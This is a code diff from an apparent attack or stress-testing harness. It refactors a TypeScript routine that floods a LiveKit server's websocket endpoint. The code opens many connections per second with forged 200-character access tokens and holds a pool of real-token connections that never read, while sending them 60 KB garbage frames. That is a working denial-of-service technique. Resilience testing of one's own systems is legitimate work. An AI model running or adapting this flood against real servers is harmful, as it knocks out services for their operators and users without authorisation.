@@ -1,6 +1,5 @@
-import { setTimeout as sleep } from 'node:timers/promises';
 import { ApiClient } from '../../api/api-client';
-import { requestHead, TcpPeers } from '../../network/tcp-peers';
+import { holdPeers, requestHead, TcpPeers } from '../../network/tcp-peers';
 import { clientFrame } from '../../network/websocket-frames';
 import type { Attack, AttackTarget } from '../attack';
 
@@ -20,20 +19,21 @@ async function roomToken({ baseUrl, token }: AttackTarget): Promise<string> {
 export const livekitWebsockets: Attack = {
   name: `${forgedPerSecond} websockets a second to LiveKit with forged tokens, and ${connections} with real ones that do not read`,
   async run(target, signal) {
-    const peers = new TcpPeers(target.baseUrl);
     const strangers = new TcpPeers(target.baseUrl);
     const real = head(`/livekit/rtc?protocol=15&access_token=${await roomToken(target)}`);
     const forged = head(`/livekit/rtc?protocol=15&access_token=${'e'.repeat(200)}.e30.e`);
     const garbage = clientFrame(Buffer.alloc(60_000), 2);
     try {
-      while (!signal.aborted) {
-        while (peers.count < connections) peers.open(real).pause();
-        peers.send(garbage);
-        for (let count = 0; count < forgedPerSecond; count++) strangers.open(forged).resume();
-        await sleep(1_000, undefined, { signal }).catch(() => undefined);
-      }
+      await holdPeers(target.baseUrl, signal, {
+        count: connections,
+        everyMs: 1_000,
+        open: (peers) => peers.open(real).pause(),
+        onRound(peers) {
+          peers.send(garbage);
+          for (let count = 0; count < forgedPerSecond; count++) strangers.open(forged).resume();
+        },
+      });
     } finally {
-      peers.close();
       strangers.close();
     }
   },
